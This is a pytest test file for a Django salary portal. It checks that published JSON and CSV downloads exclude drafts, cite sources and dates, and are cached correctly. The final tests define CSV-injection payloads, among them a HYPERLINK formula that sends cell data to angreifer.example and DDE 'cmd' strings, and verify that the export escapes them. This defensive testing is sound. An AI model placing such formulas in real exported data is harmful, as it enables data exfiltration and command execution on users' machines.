"""/daten/ and its downloads: every published figure with source and Stand, never a draft."""

import csv
import io
import json

import pytest
from django.core.cache import cache
from django.db import connection
from django.test.utils import CaptureQueriesContext

from portal.exchange import export_content
from tests.conftest import make_occupation, make_profile, make_region, text_of

pytestmark = pytest.mark.django_db

COMPARE_CSV = "/vergleich/csv/?beruf=it-projektkoordinator&region=duisburg&region=oberhausen"


@pytest.fixture
def draft(ruhr_content):
    """A draft in a city and occupation no published profile uses, with telltale figures."""
    profile = make_profile(
        occupation=make_occupation("Geheimberuf"),
        region=make_region("Entwurfstadt"),
        bands=[("entry", 7777, 8888)],
        published=False,
    )
    profile.sources.create(title="Interne Notiz")
    return profile


def csv_rows(response):
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff"), "no byte-order mark for Excel"
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))


def assert_no_draft(body):
    for telltale in (
        "Geheimberuf",
        "Entwurfstadt",
        "entwurfstadt",
        "7777",
        "8888",
        "Interne Notiz",
    ):
        assert telltale not in body


def test_the_page_offers_both_downloads(client, ruhr_content):
    response = client.get("/daten/")
    html = response.content.decode()
    assert 'href="/daten/revier-it-karriere.json"' in html
    assert 'href="/daten/gehaltsspannen.csv"' in html
    assert 'href="/aenderungen/"' in html and 'href="/feeds/aktualisierungen/"' in html
    text = text_of(response)
    assert "2 veröffentlichte Berufsprofile mit 4 Gehaltsspannen" in text
    assert "Stand aller Angaben: 20. November 2026" in text


def test_json_is_the_exchange_format_of_everything_published(client, ruhr_content):
    response = client.get("/daten/revier-it-karriere.json")
    assert response["Content-Type"] == "application/json; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="revier-it-karriere-')
    assert response["Content-Disposition"].endswith('.json"')
    document = json.loads(response.content)
    # The seed content is all published: the public file is the full export.
    assert document == export_content()
    assert document["format"] == "revier-it-karriere/1"
    bands = {
        (p["region"], b["level"]): (b["min_eur"], b["max_eur"])
        for p in document["profiles"]
        for b in p["salary_bands"]
    }
    assert bands[("duisburg", "entry")] == (3200, 3600)
    assert bands[("oberhausen", "experienced")] == (4000, 4600)
    assert all(p["sources"] and p["as_of"] for p in document["profiles"])


def test_json_leaves_drafts_out(client, draft):
    response = client.get("/daten/revier-it-karriere.json")
    assert_no_draft(response.content.decode())
    document = json.loads(response.content)
    assert [p["region"] for p in document["profiles"]] == ["duisburg", "oberhausen"]
    assert {r["slug"] for r in document["regions"]} == {"duisburg", "oberhausen"}
    assert {o["slug"] for o in document["occupations"]} == {"it-projektkoordinator"}
    # The editors' own export still has everything.
    assert len(export_content()["profiles"]) == 3


def test_salary_csv_has_every_band_with_source_and_stand(client, ruhr_content):
    response = client.get("/daten/gehaltsspannen.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith(
        'attachment; filename="revier-it-karriere-gehaltsspannen-'
    )
    header, *rows = csv_rows(response)
    assert header[:6] == [
        "Beruf",
        "Stadt",
        "Stufe",
        "von (EUR brutto/Monat)",
        "bis (EUR brutto/Monat)",
        "Mitte (EUR brutto/Monat)",
    ]
    assert "Stand" in header and "Quellen" in header
    stand, quellen = header.index("Stand"), header.index("Quellen")
    assert [row[1:6] for row in rows] == [
        ["Duisburg", "Einstieg", "3200", "3600", "3400"],
        ["Duisburg", "Mit Berufserfahrung", "4000", "5000", "4500"],
        ["Oberhausen", "Einstieg", "3000", "3400", "3200"],
        ["Oberhausen", "Mit Berufserfahrung", "4000", "4600", "4300"],
    ]
    assert {row[stand] for row in rows} == {"2026-11-20"}
    assert all("Berufsporträt" in row[quellen] for row in rows)
    assert rows[0][-1] == "http://testserver/berufe/it-projektkoordinator/duisburg/"


def test_salary_csv_leaves_drafts_out(client, draft):
    response = client.get("/daten/gehaltsspannen.csv")
    assert_no_draft(response.content.decode())
    assert len(csv_rows(response)) == 5


def test_comparison_csv(client, ruhr_content):
    page = client.get(
        "/vergleich/?beruf=it-projektkoordinator&region=duisburg&region=oberhausen"
    ).content.decode()
    assert f'href="{COMPARE_CSV.replace("&", "&amp;")}"' in page
    response = client.get(COMPARE_CSV)
    assert response["Content-Disposition"] == (
        'attachment; filename="vergleich-it-projektkoordinator-duisburg-oberhausen.csv"'
    )
    header, *rows = csv_rows(response)
    difference = header.index("Unterschied der Mitte zur ersten Stadt (EUR)")
    assert [(row[1], row[2], row[3], row[4], row[difference]) for row in rows] == [
        ("Duisburg", "Einstieg", "3200", "3600", ""),
        ("Oberhausen", "Einstieg", "3000", "3400", "-200"),
        ("Duisburg", "Mit Berufserfahrung", "4000", "5000", ""),
        ("Oberhausen", "Mit Berufserfahrung", "4000", "4600", "-200"),
    ]
    assert all(row[header.index("Stand")] == "2026-11-20" for row in rows)


def test_comparison_csv_without_a_valid_comparison_goes_to_the_picker(client, ruhr_content):
    response = client.get("/vergleich/csv/?beruf=it-projektkoordinator&region=duisburg")
    assert response.status_code == 302
    assert response["Location"] == "/vergleich/?beruf=it-projektkoordinator&region=duisburg"
    assert client.get("/vergleich/csv/")["Location"] == "/vergleich/"


def test_a_draft_city_cannot_be_compared(client, ruhr_content):
    make_profile(
        occupation=ruhr_occupation(),
        region=make_region("Entwurfstadt"),
        bands=[("entry", 7777, 8888)],
        published=False,
    )
    response = client.get(f"{COMPARE_CSV}&region=entwurfstadt")
    assert response.status_code == 200
    assert_no_draft(response.content.decode())


def ruhr_occupation():
    from jobs.models import Occupation

    return Occupation.objects.get(slug="it-projektkoordinator")


@pytest.mark.parametrize(
    "url", ["/daten/revier-it-karriere.json", "/daten/gehaltsspannen.csv", COMPARE_CSV]
)
def test_downloads_keep_their_file_name_with_the_page_cache_on(client, ruhr_content, settings, url):
    settings.PAGE_CACHE_ENABLED = True
    for _ in range(2):
        response = client.get(url)
        assert response.status_code == 200
        assert response["Content-Disposition"].startswith("attachment;")


@pytest.mark.django_db(transaction=True)
def test_downloads_are_served_from_the_page_cache_until_the_content_changes(client, settings):
    settings.PAGE_CACHE_ENABLED = True
    cache.clear()
    profile = make_profile(bands=[("entry", 3000, 3400)])
    first = client.get("/daten/gehaltsspannen.csv")
    assert first.has_header("ETag") and first["Cache-Control"] == "no-cache"
    assert first["Content-Disposition"].startswith("attachment;")
    with CaptureQueriesContext(connection) as queries:
        again = client.get("/daten/gehaltsspannen.csv")
    assert len(queries) == 0
    assert again.content == first.content
    assert again["Content-Disposition"] == first["Content-Disposition"]

    band = profile.salary_bands.get()
    band.max_eur = 3600
    band.save()
    assert b"3600" in client.get("/daten/gehaltsspannen.csv").content


# What a spreadsheet would run if a cell began with it (OWASP "CSV injection").
FORMULA_OCCUPATION = '=HYPERLINK("https://angreifer.example/?d="&A1;"Mehr")'
FORMULA_CITY = "+cmd|' /C calc'!A0"
FORMULA_NOTE = "-2+3+cmd|' /C calc'!A0"
FORMULA_SOURCE = "@SUMME(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def formula_content(db):
    """Two published profiles whose texts are spreadsheet formulas; the second city's
    bands are lower, so its difference to the first is negative."""
    occupation = make_occupation(FORMULA_OCCUPATION)
    first = make_profile(
        occupation=occupation, region=make_region(FORMULA_CITY), bands=[("entry", 3000, 3400)]
    )
    first.salary_bands.update(note=FORMULA_NOTE)
    first.sources.create(title=FORMULA_SOURCE)
    second = make_profile(
        occupation=occupation, region=make_region("\tEssen"), bands=[("entry", 2800, 3000)]
    )
    second.sources.create(title="\r=1+1")
    return first, second


def assert_no_formula_cells(rows):
    """Text cells may not start like a formula; a number (e.g. -300) is no text cell."""
    for row in rows:
        for cell in row:
            if cell.lstrip("-").isdigit():
                continue
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_salary_csv_neutralises_formulas(client, formula_content):
    header, *rows = csv_rows(client.get("/daten/gehaltsspannen.csv"))
    assert_no_formula_cells(rows)
    by_city = {row[header.index("Stadt")]: row for row in rows}
    assert set(by_city) == {"'" + FORMULA_CITY, "'\tEssen"}
    row = by_city["'" + FORMULA_CITY]
    assert row[header.index("Beruf")] == "'" + FORMULA_OCCUPATION
    assert row[header.index("Anmerkung")] == "'" + FORMULA_NOTE
    assert row[header.index("Quellen")].startswith("'" + FORMULA_SOURCE)
    # Figures stay numbers.
    assert row[header.index("von (EUR brutto/Monat)")] == "3000"


def test_comparison_csv_neutralises_formulas_and_keeps_negative_numbers(client, formula_content):
    first, second = formula_content
    response = client.get(
        "/vergleich/csv/",
        {"beruf": first.occupation.slug, "region": [first.region.slug, second.region.slug]},
    )
    assert response.status_code == 200
    header, *rows = csv_rows(response)
    assert_no_formula_cells(rows)
    difference = header.index("Unterschied der Mitte zur ersten Stadt (EUR)")
    assert [(row[1], row[difference]) for row in rows] == [
        ("'" + FORMULA_CITY, ""),
        ("'\tEssen", "-300"),
    ]
    assert rows[1][header.index("Quellen")] == "'\r=1+1"
